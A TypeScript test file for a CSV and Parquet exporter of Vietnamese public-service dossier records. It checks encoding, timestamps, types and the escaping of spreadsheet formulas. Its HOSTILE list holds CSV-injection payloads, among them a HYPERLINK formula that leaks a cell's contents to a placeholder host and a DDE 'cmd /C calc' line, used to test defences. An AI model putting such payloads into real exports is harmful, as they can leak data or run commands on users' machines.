import { parquetMetadata, parquetReadObjects } from 'hyparquet';
import { describe, expect, it } from 'vitest';
import type { FieldRecord } from '../../lib/fields/index.ts';
import { END_TO_END, MILESTONES } from '../../lib/flow/index.ts';
import { summariseDays } from '../../lib/metrics/index.ts';
import { csvPieces, type Piece, type Records, TABLES, type Table, tableOf } from '../../lib/report/index.ts';
import { parquetPieces } from '../../lib/report/parquet.ts';
import { readCsv } from '../fixtures/csv.ts';
import { fieldsOf, submissions } from '../fixtures/submissions.ts';

function recordsOf(count: number): Records {
  const list = submissions(count);
  return {
    submissions: list.map(({ dossierMark: _, ...it }) => it),
    fields: list.flatMap((it) => fieldsOf(it.id)),
    days: summariseDays(list),
  };
}

const bytesOf = async (pieces: Iterable<Piece>) =>
  new Blob([...pieces].map(({ part }) => part)).arrayBuffer();
const csvOf = async (table: Table) => {
  const bytes = new Uint8Array(await bytesOf(csvPieces(table)));
  return { bytes, text: new TextDecoder('utf-8', { fatal: true }).decode(bytes) };
};
/** The rows of a table of CSV by the names of its columns: null where nothing stands, not even quotes. */
async function csvRows(table: Table): Promise<Record<string, string | null>[]> {
  const [names = [], ...rows] = readCsv((await csvOf(table)).text);
  return rows.map((row) => {
    expect(row).toHaveLength(names.length);
    return Object.fromEntries(
      row.map(({ text, isQuoted }, at) => [names[at]?.text ?? '', text === '' && !isQuoted ? null : text]),
    );
  });
}
const parquetRows = async (table: Table): Promise<Record<string, unknown>[]> =>
  parquetReadObjects({ file: await bytesOf(parquetPieces(table)) });

/** The leaves of a record by their paths, without its lists. */
function leavesOf(value: unknown, path: string[] = []): [string, unknown][] {
  if (Array.isArray(value)) return [];
  if (typeof value !== 'object' || value === null) return [[path.join('.'), value]];
  return Object.entries(value).flatMap(([key, inner]) => leavesOf(inner, [...path, key]));
}

/** What Parquet makes of the leaves of a record that are written whole. */
function stored(path: string, value: unknown): unknown {
  if (typeof value !== 'number') return value;
  const number = Math.round(value);
  if (/(?:^|\.)(?:\w+At|at)$/.test(path)) return new Date(number);
  return /Ms$/.test(path) ? BigInt(number) : number;
}

const records = recordsOf(60);
const [dossier] = records.submissions;
const [field] = records.fields;
if (!dossier || !field) throw new Error('there is nothing to report');
const labelled = (...labels: string[]): Records => ({
  submissions: [],
  days: [],
  fields: labels.map((label, index): FieldRecord => ({ ...field, key: `national/${index}`, label })),
});

describe('the tables', () => {
  it.each(['submissions', 'fields', 'days'] as const)('hold every leaf of the records: %s', async (name) => {
    const rows = await parquetRows(tableOf(name, records));
    expect(rows).toHaveLength(records[name].length);
    for (const [index, record] of records[name].entries())
      for (const [path, value] of leavesOf(record))
        expect([path, rows[index]?.[path]]).toEqual([path, stored(path, value)]);
  });

  it('hold every milestone and every condition, also what was never reached', () => {
    const names = tableOf('submissions', records).columns.map((it) => it.name);
    for (const it of MILESTONES)
      expect(names).toEqual(expect.arrayContaining([`milestones.${it}.at`, `milestones.${it}.evidence`]));
    for (const it of END_TO_END) expect(names).toContain(`endToEnd.${it}`);
    for (const name of TABLES) {
      const all = tableOf(name, records).columns.map((it) => it.name);
      expect(new Set(all).size).toBe(all.length);
    }
  });

  it('hold lists as words, as marks, and as rows of their own', async () => {
    const portals = ['national', 'igate'];
    const some: Records = {
      submissions: [{ ...dossier, portals, notSeen: [] }],
      fields: [{ ...field, flags: ['asked-again'] }],
      days: [],
    };
    expect(await parquetRows(tableOf('submissions', some))).toMatchObject([
      { portals: 'national igate', notSeen: '' },
    ]);
    expect(await parquetRows(tableOf('fields', some))).toMatchObject([
      { 'flags.should-have-been-filled': false, 'flags.asked-again': true },
    ]);
    expect(await parquetRows(tableOf('steps', some))).toEqual(
      dossier.steps.map(({ enteredAt, activeMs, actingMs, waitingMs, ...it }, index) => ({
        ...it,
        submissionId: dossier.id,
        number: index + 1,
        enteredAt: new Date(enteredAt),
        activeMs: BigInt(Math.round(activeMs)),
        actingMs: BigInt(Math.round(actingMs ?? Number.NaN)),
        waitingMs: BigInt(Math.round(waitingMs ?? Number.NaN)),
      })),
    );
  });
});

describe('CSV', () => {
  it('begins with the mark by which Excel knows UTF-8, and ends every line with CR and LF', async () => {
    const { bytes, text } = await csvOf(tableOf('days', records));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text.startsWith('"day","procedureCode",')).toBe(true);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
    expect(text.endsWith('\r\n')).toBe(true);
  });

  it.each(TABLES)('says the same as Parquet, cell by cell: %s', async (name) => {
    const table = tableOf(name, records);
    const [plain, typed] = [await csvRows(table), await parquetRows(table)];
    expect(plain.length).toBeGreaterThan(0);
    expect(plain).toHaveLength(typed.length);
    for (const [index, row] of typed.entries())
      for (const [column, value] of Object.entries(row)) {
        const text = plain[index]?.[column];
        if (value instanceof Date)
          expect(Date.parse(`${text}+07:00`)).toBe(Math.floor(value.getTime() / 1000) * 1000);
        else if (typeof value === 'boolean') expect(text).toBe(value ? 'TRUE' : 'FALSE');
        else expect(text?.replace(/^'(?=\d)/, '') ?? null).toBe(value === null ? null : String(value));
      }
  });

  it('has an apostrophe before what a spreadsheet would take for a number or a date, and only there', async () => {
    const codes = ['1.004870', '1/2', '3', '26-11', '11-2026', '8:30'];
    const labels = [...codes, '2. Họ tên', 'Mẫu 01/ĐK', '2026-11-22', dossier.id];
    const rows = await csvRows(tableOf('fields', labelled(...labels)));
    expect(rows.map(({ label }) => label)).toEqual([
      ...codes.map((it) => `'${it}`),
      ...labels.slice(codes.length),
    ]);
  });

  it('tells an empty text from what is not known', async () => {
    const [row] = await csvRows(
      tableOf('submissions', {
        ...records,
        submissions: [{ ...dossier, agency: null, procedure: { code: '', name: '' }, satisfaction: null }],
      }),
    );
    expect(row).toMatchObject({ agency: null, 'procedure.name': '', satisfaction: null });
  });

  it('tells times as spreadsheets know them, by the clock of Việt Nam', async () => {
    const startedAt = Date.parse('2026-11-22T17:00:05.999Z');
    const [row] = await csvRows(
      tableOf('submissions', { ...records, submissions: [{ ...dossier, startedAt }] }),
    );
    expect(row?.startedAt).toBe('2026-11-23 00:00:05');
  });

  it('keeps quotes, commas, ends of lines and every sign of Vietnamese', async () => {
    const labels = [
      'Họ, chữ đệm, tên "khai sinh"',
      'dòng một\r\ndòng hai\ndòng ba',
      'Ữ ữ Ặ ặ Ỹ ỹ Đ đ – “ghi bằng chữ” 🙂',
      '"',
      '',
    ];
    const rows = await csvRows(tableOf('fields', labelled(...labels)));
    expect(rows.map(({ label }) => label)).toEqual(labels);
  });

  const HOSTILE = [
    '=HYPERLINK("https://example.invalid/?"&A1,"Xem")',
    "+1+cmd|' /C calc'!A0",
    '-2+3',
    '@SUM(A1:A9)',
    '\t=1+1',
    '\r=1+1',
    '  =1+1',
    '"=1+1',
    ...['＝', '＋', '－', '＠'].map((wide) => `${wide}1`),
    'Họ tên;=1+1',
    'Họ tên; "=1+1',
    'Họ tên,=1+1',
    'Họ tên\n=1+1',
    'Họ tên\t@SUM(A1)',
    'a|=1+1',
    '";=1+1;"',
    '1,-2',
  ];
  /** How a spreadsheet that knows nothing of our quotes and parts cells at any of these signs may see the text. */
  const beginnings = (text: string) =>
    text.split(/[,;|\t\r\n]/).map((it) => it.replace(/^[\s"]+/, '').charAt(0));

  it.each(HOSTILE)('has no cell that a spreadsheet runs, wherever it parts them: %j', async (label) => {
    const table = tableOf('fields', labelled(label));
    const { text } = await csvOf(table);
    const [head = '', ...rest] = text.split('\r\n');
    expect(head).toContain('"label"');
    const cells = beginnings(rest.join('\r\n'));
    expect(cells.filter((first) => '=+-@＝＋－＠'.includes(first) && first !== '')).toEqual([]);
    const [row] = await csvRows(table);
    expect(row?.label?.replaceAll("'", '')).toBe(label.replaceAll("'", ''));
  });

  it('leaves numbers below zero numbers, and labels with signs in them as they are', async () => {
    const shifted: Records = { ...records, submissions: [{ ...dossier, clockShiftMs: -3_600_000 }] };
    expect((await csvRows(tableOf('submissions', shifted)))[0]?.clockShiftMs).toBe('-3600000');
    const label = 'Số CMND/CCCD – nơi cấp (a+b=c) a@b';
    expect((await csvRows(tableOf('fields', labelled(label))))[0]?.label).toBe(label);
  });
});

describe('Parquet', () => {
  it('has times as UTC timestamps of milliseconds, durations wide, counts, booleans and texts by their types', async () => {
    const typesOf = async (name: (typeof TABLES)[number]) => {
      const { schema } = parquetMetadata(await bytesOf(parquetPieces(tableOf(name, records))));
      return Object.fromEntries(schema.slice(1).map((it) => [it.name, [it.type, it.converted_type]]));
    };
    expect(await typesOf('submissions')).toMatchObject({
      id: ['BYTE_ARRAY', 'UTF8'],
      startedAt: ['INT64', 'TIMESTAMP_MILLIS'],
      'milestones.submitted.at': ['INT64', 'TIMESTAMP_MILLIS'],
      elapsedMs: ['INT64', undefined],
      rejections: ['INT32', undefined],
    });
    expect(await typesOf('fields')).toMatchObject({ visible: ['BOOLEAN', undefined] });
  });

  it('keeps hostile labels as they are, and tells an empty text from none', async () => {
    const labels = ['=1+1', '', 'Ữ "ặ"\n'];
    const rows = await parquetRows(tableOf('fields', labelled(...labels)));
    expect(rows.map(({ label }) => label)).toEqual(labels);
    const [row] = await parquetRows(
      tableOf('submissions', { ...records, submissions: [{ ...dossier, agency: null, outreach: '' }] }),
    );
    expect(row).toMatchObject({ agency: null, outreach: '' });
  });

  it('is a file also where there is no row', async () => {
    const none = tableOf('steps', { submissions: [], fields: [], days: [] });
    expect(await parquetRows(none)).toEqual([]);
    expect(await csvRows(none)).toEqual([]);
  });
});

describe('ten thousand dossiers', () => {
  const many = recordsOf(10_000);
  it.each([
    ['CSV', csvPieces],
    ['Parquet', parquetPieces],
  ])(
    'are written as %s in pieces that tell how far it is',
    (_name, write) => {
      const table = tableOf('fields', many);
      const pieces = [...write(table)];
      expect(table.length).toBe(140_000);
      expect(pieces.length).toBeGreaterThan(20);
      expect(pieces.at(-1)?.done).toBe(140_000);
    },
    60_000,
  );

  it('are all there', async () => {
    const rows = await parquetRows(tableOf('submissions', many));
    expect(rows.map(({ id }) => id)).toEqual(many.submissions.map(({ id }) => id));
  }, 60_000);
});
